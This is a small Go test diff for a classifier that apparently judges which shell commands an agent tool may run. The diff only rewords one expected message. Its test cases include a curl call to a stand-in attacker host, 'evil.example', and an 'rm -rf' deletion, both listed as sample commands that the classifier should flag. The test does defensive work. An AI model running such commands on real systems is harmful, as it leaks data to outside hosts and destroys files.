@@ -105,7 +105,7 @@ func TestJudgement(t *testing.T) {
 		"looks only":       {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
 		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "nothing confines it"},
 		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
-		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "asks for the network"},
+		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "requests network access"},
 		"sends":            {runIn{Command: "mail a@b.example"}, tools.Exec | tools.Send, false, "sends"},
 		"destroys":         {runIn{Command: "rm -rf x"}, tools.Exec | tools.Destroy, false, "cannot be undone"},
 	} {
